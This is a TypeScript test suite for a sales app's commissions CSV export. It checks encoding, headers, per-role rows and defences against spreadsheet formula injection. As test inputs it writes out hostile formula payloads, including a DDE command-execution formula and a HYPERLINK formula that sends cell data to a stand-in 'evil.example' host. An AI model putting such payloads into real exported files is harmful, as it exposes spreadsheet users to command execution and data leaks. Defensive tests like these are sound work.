// GET /commissions.csv: the grid as a file that a spreadsheet reads as text and numbers, never as formulas.
import test, { type ExecutionContext } from 'ava';
import { parse } from 'csv-parse/sync';
import type { UserRow } from '../../db/accounts/users.ts';
import { deals } from '../../db/sales/deals.ts';
import { eq } from '../../db/store/drizzle.ts';
import { updateProfile } from '../support/people/accounts.ts';
import type { Client } from '../support/people/roles.ts';
import { salesFixtures, sellerMove } from '../support/fixtures/sales.ts';

const header =
    'id,customer_name,contact_name,revenue,commission,earnings,eff_rate,closed_month,closed_at,status,rep,paid_at';

async function fileOf({ get }: Client) {
    const { statusCode, headers, body } = await get('/commissions.csv');
    return { statusCode, headers, text: String(body) };
}

test('the CSV file is UTF-8 with a byte order mark, CRLF line ends and a file name, and negative numbers stay numbers', async (t) => {
    const fixtures = await salesFixtures(t, { CURRENCY: 'EUR' }); // which changes no number
    const { id } = await fixtures.dealIn('ss_closed', { customer_name: 'Café Zürich' });
    const noMargin = { revenue: 100, commission: 0, margin_deduction: 12.5, referral_fee: 0 };
    const loss = await fixtures.dealIn('ss_closed', noMargin);
    const { statusCode, headers, text } = await fileOf(fixtures.rep);
    t.is(statusCode, 200);
    t.is(headers['content-type'], 'text/csv; charset=utf-8');
    t.is(headers['content-disposition'], 'attachment; filename="commissions.csv"');
    t.is(headers['cache-control'], 'no-store');
    const row = `${id},Café Zürich,Contact 1,12500.5,1375.25,1187.5,9.5,2026-01,2026-01-15T12:00:00.000Z,ss_closed,salesRep,`;
    const negative = `${loss.id},Customer 1,Contact 1,100,0,-12.5,-12.5,2026-01,2026-01-15T12:00:00.000Z,ss_closed,salesRep,`;
    t.is(text, `\uFEFF${header}\r\n${negative}\r\n${row}\r\n`);
    t.is((await fileOf(fixtures.other)).text, `\uFEFF${header}\r\n`, 'without deals');
});

/** Deals of these customers, closed one after the other. No route takes a line break there any more. */
async function closed(
    t: ExecutionContext,
    names: readonly string[],
    separator: UserRow['csvSeparator'] = 'comma'
) {
    const fixtures = await salesFixtures(t);
    await updateProfile(fixtures.testApp, fixtures.rep, { csv_separator: separator });
    for (const customerName of names) {
        const { id } = await fixtures.dealIn('ss_closed');
        await fixtures.testApp.store.write((tx) =>
            tx.update(deals).set({ customerName, contactName: customerName }).where(eq(deals.id, id))
        );
    }
    return (await fileOf(fixtures.rep)).text;
}

const rowsOf = (text: string, options = {}): Record<string, string>[] =>
    parse(text, { columns: true, bom: true, ...options });

test('no cell starts a formula in any spreadsheet [59]', async (t) => {
    const link = '=HYPERLINK("https://evil.example?"&A1,"click")';
    const formulas = [
        "=cmd|' /C calc'!A0",
        link,
        '+1+1',
        '-2+3',
        '@SUM(A1:A9)',
        '＝1+1',
        '＋1',
        '－1',
        '＠SUM(1)'
    ];
    const cells = rowsOf(await closed(t, formulas)).map((row) => [row['customer_name'], row['contact_name']]);
    t.deepEqual(
        cells,
        formulas.toReversed().map((formula) => [`'${formula}`, `'${formula}`])
    );
});

test('no cell starts a formula for programs that split at semicolons, tabs or bars [59]', async (t) => {
    const names = ['Ada;=1+1', ';=1+1', 'Ada; +1', 'Ada;"=1+1"', 'Ada|@SUM(1)', 'Ada;－1', 'Ada;;=1'];
    const text = await closed(t, [...names, 'Ada\t=1+1', 'Ada\r\n=1+1;', 'Ada\n-1']);
    for (const delimiter of [';', '\t', '|'])
        for (const quote of ['"', null]) {
            const rows: string[][] = parse(text, { ...lenient, delimiter, quote });
            t.deepEqual(
                rows.flat().filter((cell) => /^[\s"]*[=+\-@＝＋－＠]/.test(cell)),
                [],
                text
            );
        }
    t.true(text.includes("Ada;'=1+1"), 'nothing is lost');
});

const lenient = { bom: true, relax_quotes: true, relax_column_count: true } as const;

test('who chose semicolons gets decimal commas, and no cell starts a formula [59]', async (t) => {
    const names = ['Ada,=1+1', 'Ortiz, Sam', '=1+1', 'a;=1', 'Ada|+1', 'Ada,"@SUM(1)"'];
    const text = await closed(t, names, 'semicolon');
    const rows = rowsOf(text, { delimiter: ';' });
    t.deepEqual(
        rows.map((row) => [row['customer_name'], row['revenue'], row['eff_rate']]),
        [`Ada,"'@SUM(1)"`, "Ada|'+1", 'a;=1', "'=1+1", 'Ortiz, Sam', "Ada,'=1+1"].map((name) => [
            name,
            '12500,5',
            '9,5'
        ])
    );
    for (const delimiter of [',', '\t', '|']) {
        const rows: string[][] = parse(text, { ...lenient, delimiter });
        t.false(
            rows.flat().some((cell) => /^[\s"]*[=+\-@]/.test(cell)),
            text
        );
    }
});

test('commas, quotes and line breaks inside a name leave it one cell of one row', async (t) => {
    const odd = [
        'Ortiz, Sam',
        'The "Harbour"',
        'one\r\ntwo',
        'one\ntwo',
        'one\rtwo',
        'a;b\tc',
        '"',
        `",=1+1,"`
    ];
    const rows = rowsOf(await closed(t, odd), { record_delimiter: '\r\n' });
    t.deepEqual(
        rows.map(({ customer_name, status }) => [customer_name, status]),
        odd.toReversed().map((name) => [name, 'ss_closed'])
    );
});

test('the file holds the very rows of the grid: their own for a rep, all for an administrator', async (t) => {
    const fixtures = await salesFixtures(t);
    const { id } = await fixtures.dealIn('ss_paid');
    await fixtures.dealIn('ss_closed', {}, fixtures.other);
    fixtures.testApp.pass(60_000);
    for (const move of ['undo_pay', 'pay'] as const) await sellerMove(fixtures.boss, move, id);
    await fixtures.dealIn('ss_customer_approved');
    for (const client of [fixtures.rep, fixtures.other, fixtures.boss, fixtures.admin]) {
        const { deals } = (await client.action('svc_get_commissions')).body.data;
        const rows = rowsOf((await fileOf(client)).text);
        const asText = (deal: object) =>
            Object.fromEntries(Object.entries(deal).map(([name, value]) => [name, String(value)]));
        const paid = { rep: 'salesRep', paid_at: '2026-01-15T12:01:00.000Z' }; // the last time
        const closed_at = '2026-01-15T12:00:00.000Z'; // for programs, in place of the grid's text for people
        t.deepEqual(
            rows,
            deals.map((deal: { id: number }) => {
                const more = deal.id === id ? paid : { rep: 'otherRep', paid_at: '' };
                return asText({ ...deal, closed_at, ...more });
            })
        );
    }
});
